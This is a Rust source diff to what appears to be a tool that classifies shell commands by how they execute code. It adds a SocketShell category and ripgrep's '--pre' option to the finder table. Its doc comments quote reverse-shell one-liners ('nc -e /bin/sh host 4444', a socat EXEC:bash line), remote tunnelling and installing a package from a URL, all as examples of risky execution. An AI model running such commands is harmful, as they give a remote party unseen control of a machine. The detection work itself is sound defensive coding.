@@ -87,10 +87,12 @@ pub enum Execution {
         path: Word,
         subcommand: String,
     },
-    /// A shell or interpreter whose input and output are a network connection (`nc -e
-    /// /bin/sh host 4444`, `socat TCP:h:p EXEC:bash`): whoever is at the other end runs
-    /// commands unseen.
+    /// Code downloaded and run unread (`yum install http://…/x.rpm` runs its install scripts).
     Network { how: String },
+    /// A shell or interpreter whose input and output are a network connection (`nc -e
+    /// /bin/sh host 4444`, `socat TCP:h:p EXEC:bash`), or remote access to this machine
+    /// (`code tunnel`): whoever is at the other end runs commands unseen.
+    SocketShell { how: String },
     /// Something it runs that cannot be read before it runs (a library loaded into it).
     Unverifiable { what: String },
     /// Part of a project file that the command runs (`npm test` runs `package.json`'s
@@ -245,7 +247,7 @@ pub fn knows(name: &str) -> bool {
         || shells::BUILTINS.contains(&name)
         || matches!(
             name,
-            "find" | "fd" | "fdfind" | "xargs" | "parallel" | "git" | "nix-shell" | "nix"
+            "find" | "fd" | "fdfind" | "rg" | "ripgrep" | "xargs" | "parallel" | "git" | "nix-shell" | "nix"
         )
         || wrappers::knows(name)
         || table::has_entry(name, FAMILIES, index::INDEX)
@@ -554,8 +556,8 @@ pub fn markdown() -> String {
     );
     row(
         "finders",
-        "find, fd, xargs, parallel",
-        "`-exec`/`-execdir`/`-ok`/`-okdir`, `-x`/`-X`, the command `xargs` and `parallel` run per input",
+        "find, fd, rg, xargs, parallel",
+        "`-exec`/`-execdir`/`-ok`/`-okdir`, `-x`/`-X`, `rg --pre` (a program run on each file searched), the command `xargs` and `parallel` run per input",
     );
     row(
         "git",
